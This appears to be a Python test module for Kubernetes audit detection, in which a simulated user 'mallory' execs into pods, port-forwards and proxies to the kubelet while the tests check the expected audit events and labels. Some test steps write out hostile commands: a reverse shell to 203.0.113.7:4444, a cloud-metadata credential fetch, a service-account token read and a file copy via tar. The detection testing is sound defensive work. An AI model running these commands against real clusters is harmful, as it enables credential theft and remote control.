"""Reaching into running containers."""

import socket
import subprocess

from processes import free_ports, wait_until
from steps.base import Step, event, expect, first_pod


def execs(*command, env=None, words=()):
    def act(cluster):
        answer = cluster.kubectl("mallory", "exec", *words, first_pod(cluster), "-n", "shop", "--", *command, env=env)
        expect(answer, 0, "not executed:")
    return act


def exec_event(words, verb="get"):
    return event("pods", verb, 101, namespace="shop", user="mallory", objectRef__subresource="exec", requestURI=f"*command={words}*")


def forward_port(cluster):
    (port,) = free_ports(1)
    config = cluster.token_kubeconfig("mallory", cluster.tokens["mallory"])
    command = [cluster.kube, "kubectl", f"--kubeconfig={config}", "port-forward", "-n", "shop", "deployment/stock", f"{port}:8080"]
    forward = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        def greeted():
            with socket.create_connection(("127.0.0.1", port), timeout=3) as client:
                client.settimeout(5)
                return b"nothing listens here" in client.recv(100)
        wait_until("answer through the forwarded port", greeted, 20, 0.5)
    finally:
        forward.terminate()
        forward.wait(10)


INSIDE = [
    Step("exec", execs("id"), exec_event("id"), ("exec",)),
    Step("exec by an older client", execs("whoami", env={"KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false"}),
         exec_event("whoami", "create"), ("exec",)),
    Step("exec asks the cloud for credentials",
         execs("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         exec_event("curl"), ("exec", "exec: cloud metadata", "exec: download")),
    Step("exec reads a token", execs("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
         exec_event("cat"), ("exec", "exec: credential file")),
    Step("exec opens a reverse shell", execs("bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
         exec_event("bash"), ("exec", "exec: reverse shell")),
    Step("exec copies files", execs("tar", "cf", "-", "/etc/web"), exec_event("tar"), ("exec", "exec: copy")),
    Step("exec in a system namespace",
         lambda cluster: cluster.kubectl("mallory", "exec", first_pod(cluster, "coredns", "kube-system"), "-n", "kube-system", "--", "id"),
         event("pods", None, 101, namespace="kube-system", user="mallory", objectRef__subresource="exec"),
         ("exec", "exec in a system namespace")),
    Step("attach", lambda cluster: cluster.kubectl("mallory", "attach", first_pod(cluster), "-n", "shop"),
         event("pods", None, 101, namespace="shop", user="mallory", objectRef__subresource="attach"), ("attach",)),
    Step("port-forward", forward_port,
         event("pods", None, 101, namespace="shop", user="mallory", objectRef__subresource="portforward"), ("port-forward",)),
    Step("ephemeral container",
         lambda cluster: cluster.kubectl("mallory", "debug", first_pod(cluster), "-n", "shop", "--image=registry.example/tools/shell:latest",
                                         "--profile=baseline", "--", "sleep", "60"),
         event("pods", "patch", 200, namespace="shop", user="mallory", objectRef__subresource="ephemeralcontainers"),
         ("ephemeral container",)),
    Step("logs read", lambda cluster: cluster.kubectl("mallory", "logs", first_pod(cluster), "-n", "shop"),
         event("pods", "get", 200, namespace="shop", user="mallory", objectRef__subresource="log"), ()),
    Step("kubelet through the API server",
         lambda cluster: cluster.http(cluster.tokens["mallory"], "GET", "/api/v1/nodes/worker-1/proxy/pods"),
         event("nodes", "get", None, "worker-1", user="mallory", objectRef__subresource="proxy"), ("node proxy",)),
]
